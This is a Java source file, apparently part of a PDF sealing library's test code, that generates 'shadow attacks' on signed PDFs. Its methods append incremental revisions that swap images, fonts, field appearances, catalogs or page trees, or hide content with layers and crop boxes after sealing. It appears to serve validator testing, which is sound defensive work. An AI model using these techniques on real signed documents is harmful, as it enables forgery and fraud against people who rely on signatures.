package cn.sidian.seal.attack;

import java.util.List;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSStream;
import org.jspecify.annotations.Nullable;

/**
 * Shadow attacks: what was prepared before sealing is uncovered, exchanged or brought to life after
 * it. {@link PreparedDocument} has what each of them needs.
 */
final class ShadowAttacks {
  private ShadowAttacks() {}

  private static @Nullable COSStream picture(SealedFile file) {
    COSDictionary all = resources(file, COSName.XOBJECT);
    if (all != null) {
      for (COSName name : all.keySet()) {
        if (all.getDictionaryObject(name) instanceof COSStream stream && stream.getKey() != null) {
          return stream;
        }
      }
    }
    return null;
  }

  private static @Nullable COSDictionary resources(SealedFile file, COSName kind) {
    return file.page().getDictionaryObject(COSName.RESOURCES) instanceof COSDictionary resources
            && resources.getDictionaryObject(kind) instanceof COSDictionary found
        ? found
        : null;
  }

  static byte @Nullable [] pictureFreed(SealedFile file) {
    COSStream picture = picture(file);
    return picture == null ? null : new Revision(file).free(SealedFile.key(picture)).bytes();
  }

  static byte @Nullable [] pictureEmptied(SealedFile file) {
    COSStream picture = picture(file);
    return picture == null
        ? null
        : new Revision(file)
            .put(
                picture,
                "<</Type/XObject/Subtype/Form/BBox[0 0 0 0]/Length 0>>\nstream\n\nendstream")
            .bytes();
  }

  static byte @Nullable [] pictureReplaced(SealedFile file) {
    COSStream picture = picture(file);
    return picture == null
        ? null
        : new Revision(file).put(SealedFile.key(picture), Forged.form()).bytes();
  }

  static byte @Nullable [] resourcesWithoutPicture(SealedFile file) {
    COSDictionary pictures = resources(file, COSName.XOBJECT);
    if (pictures == null) {
      return null;
    }
    COSDictionary resources = (COSDictionary) file.page().getDictionaryObject(COSName.RESOURCES);
    COSDictionary changed = new COSDictionary(resources);
    changed.removeItem(COSName.XOBJECT);
    Revision revision = new Revision(file);
    return (resources.getKey() != null
            ? revision.put(resources, changed)
            : revision.with(file.page(), "Resources", Revision.text(changed)))
        .bytes();
  }

  static byte[] contentFreed(SealedFile file) {
    COSStream content = file.content();
    return content == null || content.getKey() == null
        ? new Revision(file).with(file.page(), "Contents", "null").bytes()
        : new Revision(file).free(SealedFile.key(content)).bytes();
  }

  static byte @Nullable [] fontReplaced(SealedFile file) {
    COSDictionary fonts = resources(file, COSName.FONT);
    if (fonts == null) {
      return null;
    }
    for (COSName name : fonts.keySet()) {
      if (fonts.getDictionaryObject(name) instanceof COSDictionary font && font.getKey() != null) {
        return new Revision(file)
            .put(
                font,
                "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Type/Encoding"
                    + "/Differences[48/nine/eight/seven]>>>>")
            .bytes();
      }
    }
    return null;
  }

  private static @Nullable COSDictionary textField(SealedFile file) {
    COSArray fields = file.fieldList();
    for (int i = 0; i < fields.size(); i++) {
      if (fields.getObject(i) instanceof COSDictionary field
          && COSName.TX.equals(field.getDictionaryObject(COSName.FT))
          && field.getKey() != null) {
        return field;
      }
    }
    return null;
  }

  /** What a field shows is exchanged, its value stays. */
  static byte @Nullable [] appearanceOfField(SealedFile file) {
    COSDictionary field = textField(file);
    if (field == null) {
      return null;
    }
    Revision revision = new Revision(file);
    String shown = revision.add(Forged.form());
    return revision.with(field, "AP", "<</N " + shown + ">>").bytes();
  }

  static byte @Nullable [] fieldMovedOverThePage(SealedFile file) {
    COSDictionary field = textField(file);
    return field == null ? null : new Revision(file).with(field, "Rect", "[0 0 5000 5000]").bytes();
  }

  static byte[] textFieldAdded(SealedFile file) {
    Revision revision = new Revision(file);
    String shown = revision.add(Forged.form());
    String field =
        revision.add(
            "<</Type/Annot/Subtype/Widget/FT/Tx/T(Shadow)/V(9000)"
                + Forged.COVER
                + "/P "
                + Forged.page(file)
                + "/AP<</N "
                + shown
                + ">>>>");
    Forged.field(revision, field);
    return Forged.annotation(revision, field).bytes();
  }

  static byte[] otherRoot(SealedFile file) {
    Revision revision = new Revision(file);
    String form = Revision.text(file.catalog().getItem(COSName.ACRO_FORM));
    return revision.trailer("Root", Forged.document(revision, "/AcroForm " + form)).bytes();
  }

  static byte[] otherPages(SealedFile file) {
    Revision revision = new Revision(file);
    String other = Forged.document(revision, "");
    long pages = Forged.number(other) - 2;
    return revision.with(file.catalog(), "Pages", pages + " 0 R").bytes();
  }

  /** A second catalog that was hidden in the sealed bytes is made the first. */
  static byte @Nullable [] hiddenCatalog(SealedFile file) {
    List<COSObject> all = file.objectsOfType(COSName.CATALOG);
    for (COSObject candidate : all) {
      COSBase catalog = candidate.getObject();
      if (catalog != file.catalog() && candidate.getKey() != null) {
        Revision revision = new Revision(file);
        COSDictionary hidden = new COSDictionary((COSDictionary) catalog);
        hidden.setItem(COSName.ACRO_FORM, file.catalog().getItem(COSName.ACRO_FORM));
        return revision
            .put((COSDictionary) catalog, hidden)
            .trailer("Root", Revision.text(candidate))
            .bytes();
      }
    }
    return null;
  }

  static byte[] layerHidesContent(SealedFile file) {
    Revision revision = new Revision(file);
    String layer = revision.add("<</Type/OCG/Name(Layer)>>");
    return revision
        .with(
            file.catalog(),
            "OCProperties",
            "<</OCGs[" + layer + "]/D<</BaseState/OFF/OFF[" + layer + "]>>>>")
        .bytes();
  }

  static byte[] pageBox(SealedFile file) {
    return new Revision(file).with(file.page(), "CropBox", "[0 0 10 10]").bytes();
  }

  static byte[] pageRotated(SealedFile file) {
    return new Revision(file).with(file.page(), "Rotate", "180").bytes();
  }
}
